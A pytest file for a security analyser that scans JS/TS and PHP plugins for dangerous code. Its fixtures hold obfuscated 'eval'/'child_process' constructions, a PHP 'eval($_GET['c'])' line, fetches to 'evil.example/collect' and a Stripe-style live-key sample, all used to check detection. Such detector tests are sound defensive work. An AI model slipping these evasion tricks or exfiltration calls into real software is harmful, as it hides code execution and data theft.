"""The analyser's JavaScript/TypeScript family beyond its rule fixtures: which files it reads with which grammar,
what the value resolver folds, warnings against errors, and what it shares with the PHP family."""

from __future__ import annotations

from pathlib import Path

import pytest

from forge.gates import Severity, scan
from forge.gates.js_ast import parse_js
from forge.gates.js_values import resolve_value
from forge.gates.secret_values import known_format

HOSTS = ["api.molam.com"]


def _plugin(tmp_path: Path, files: dict[str, str]) -> Path:
    for name, content in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return tmp_path


def _rules(
    tmp_path: Path, files: dict[str, str], only: str = "js.", exclude: tuple[str, ...] = ()
) -> list[tuple[str, str, int]]:
    report = scan(_plugin(tmp_path, files), HOSTS, only=[only], exclude=exclude)
    return [(f.rule, f.severity.value, f.line) for f in report.findings]


@pytest.mark.parametrize("extension", [".js", ".mjs", ".cjs", ".jsx", ".ts", ".tsx", ".mts", ".cts"])
def test_every_javascript_and_typescript_extension_is_scanned(tmp_path: Path, extension: str) -> None:
    assert _rules(tmp_path, {f"src/entry{extension}": "eval(x);\n"}) == [("js.eval", "error", 1)]


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("app.tsx", "const f = (p: { n: number }): JSX.Element => <div>{p.n as number}</div>;\n"),
        ("types.ts", "type T<K extends string> = Record<K, number>; const x = <T<'a'>>{};\n"),
        ("view.jsx", "export const V = () => <p className='x'>{`hi`}</p>;\n"),
    ],
)
def test_each_file_gets_its_grammar(name: str, source: str) -> None:
    assert not parse_js(name, source.encode()).has_syntax_errors


def test_an_unparsable_file_is_a_warning_and_still_scanned(tmp_path: Path) -> None:
    findings = _rules(tmp_path, {"broken.js": "function (\neval(code);\n"}, only="js.eval")
    assert ("js.eval", "error", 2) in findings
    report = scan(tmp_path, HOSTS, only=["js.eval"])
    assert any(f.rule == "js.parse" and f.severity is Severity.WARNING for f in report.findings)


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("'child' + '_process'", "child_process"),
        ("String.fromCharCode(101, 118, 97, 108)", "eval"),
        ("atob('ZXZhbA==')", "eval"),
        ("Buffer.from('ZXZhbA==', 'base64').toString()", "eval"),
        ("'lave'.split('').reverse().join('')", "eval"),
        ("['ev', 'al'].join('')", "eval"),
        ("`${A}/v1`", "https://api.example/v1"),
        ("CONFIG.url", "https://cfg.example"),
        ("'\\x65\\u0076\\u{61}l'", "eval"),
    ],
)
def test_resolver_folds_what_the_code_fixes(expression: str, value: str) -> None:
    prelude = "const A = 'https://api.example'; const CONFIG = { url: 'https://cfg.example' };\n"
    js = parse_js("x.js", f"{prelude}v = {expression};\n".encode())
    [(_, assigned, _)] = js.names.values["v"]
    assert resolve_value(js, assigned) == value


def test_folded_names_are_caught(tmp_path: Path) -> None:
    codes = ",".join(str(ord(c)) for c in "child_process")
    source = f"require(String.fromCharCode({codes}));\nwindow[atob('ZXZhbA==')](x);\n"
    assert _rules(tmp_path, {"a.js": source}) == [("js.child-process", "error", 1), ("js.eval", "error", 2)]


def test_dynamic_require_is_an_error_only_with_request_data(tmp_path: Path) -> None:
    source = "require(name);\nrequire(req.query.name);\nrequire('./fixed');\n"
    assert _rules(tmp_path, {"a.js": source}, only="js.dynamic-require") == [
        ("js.dynamic-require", "error", 2),
        ("js.dynamic-require", "warning", 1),
    ]


def test_host_from_configuration_passes_and_its_hard_coded_fallback_does_not(tmp_path: Path) -> None:
    source = (
        "fetch(process.env.API + '/a', { body: req.body });\n"
        "const { API } = process.env;\nfetch(`${API}/b`, { body: req.body });\n"
        "fetch(`${process.env.API ?? 'https://fallback.example'}/c`);\n"
        "fetch(someUrl);\n"
    )
    assert _rules(tmp_path, {"a.ts": source}, only="js.host") == [
        ("js.host-not-allowed", "error", 4),
        ("js.host-not-allowed", "warning", 5),
    ]


def test_a_minified_bundle_is_scanned_and_warned_about(tmp_path: Path) -> None:
    bundle = "!function(){" + "var a=function(n){return n*2};" * 100 + "eval(a)}();\n"
    findings = _rules(tmp_path, {"build/index.js": bundle})
    assert findings == [("js.eval", "error", 1), ("js.minified", "warning", 1)]


def test_what_never_ships_is_not_scanned(tmp_path: Path) -> None:
    """node_modules is left out the way every excluded file is: by the platform's dist-exclude patterns."""
    files = {"node_modules/dep/index.js": "eval(x);\n", "src/app.js": "export const ok = 1;\n"}
    assert _rules(tmp_path, files, exclude=("node_modules", "node_modules/*")) == []
    assert _rules(tmp_path, files) == [("js.eval", "error", 1)]


def test_php_and_javascript_share_the_secret_tests(tmp_path: Path) -> None:
    key = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
    assert known_format(key) == "a Stripe-style secret key"
    files = {"a.php": f"<?php\n$k = '{key}';\n", "a.js": f"const k = '{key}';\n"}
    report = scan(_plugin(tmp_path, files), HOSTS, only=["secret.", "js.secret"])
    assert sorted((f.rule, f.path) for f in report.errors) == [("js.secret", "a.js"), ("secret.hardcoded", "a.php")]


def test_php_rules_ignore_javascript_and_javascript_rules_ignore_php(tmp_path: Path) -> None:
    files = {"a.php": "<?php\neval( $_GET['c'] );\n", "a.js": "eval(x);\n"}
    report = scan(_plugin(tmp_path, files), HOSTS, only=["exec.eval", "js.eval"])
    assert sorted((f.rule, f.path) for f in report.errors) == [("exec.eval", "a.php"), ("js.eval", "a.js")]


def test_a_parameter_shadows_the_outer_name(tmp_path: Path) -> None:
    """Minified code reuses one-letter names: `d` of one function is not the `d` another gave page data."""
    source = (
        "function a() { var d = location.href; return d; }\n"
        "function b(d) { return fetch(d.url, { method: 'POST' }); }\n"
        "function c() { var d = location.href; return fetch(d); }\n"
    )
    assert _rules(tmp_path, {"a.js": source}, only="js.host") == [
        ("js.host-not-allowed", "error", 3),
        ("js.host-not-allowed", "warning", 2),
    ]


def test_the_files_own_function_is_not_the_library_it_is_named_after(tmp_path: Path) -> None:
    source = (
        "function ky(t) { return t.x; }\nky('https://evil.example/');\n"
        "import got from 'got';\ngot('https://evil.example/');\n"
    )
    assert _rules(tmp_path, {"a.mjs": source}, only="js.host") == [("js.host-not-allowed", "error", 4)]


def test_an_inner_declaration_does_not_resolve_an_outer_use(tmp_path: Path) -> None:
    source = (
        "const url = 'https://api.molam.com/v1';\n"
        "function other() { const url = 'https://evil.example'; return url; }\n"
        "fetch(url);\n"
    )
    assert _rules(tmp_path, {"a.js": source}, only="js.host") == []


def test_a_client_chosen_at_run_time_is_still_a_client(tmp_path: Path) -> None:
    source = (
        "import { request as plain } from 'node:http';\nimport { request as secure } from 'node:https';\n"
        "const send = tls ? secure : plain;\nsend('https://evil.example/collect');\n"
        "const get = globalThis.fetch ?? polyfill;\nget('https://evil.example/x');\n"
    )
    assert _rules(tmp_path, {"a.ts": source}, only="js.host") == [
        ("js.host-not-allowed", "error", 4),
        ("js.host-not-allowed", "error", 6),
    ]
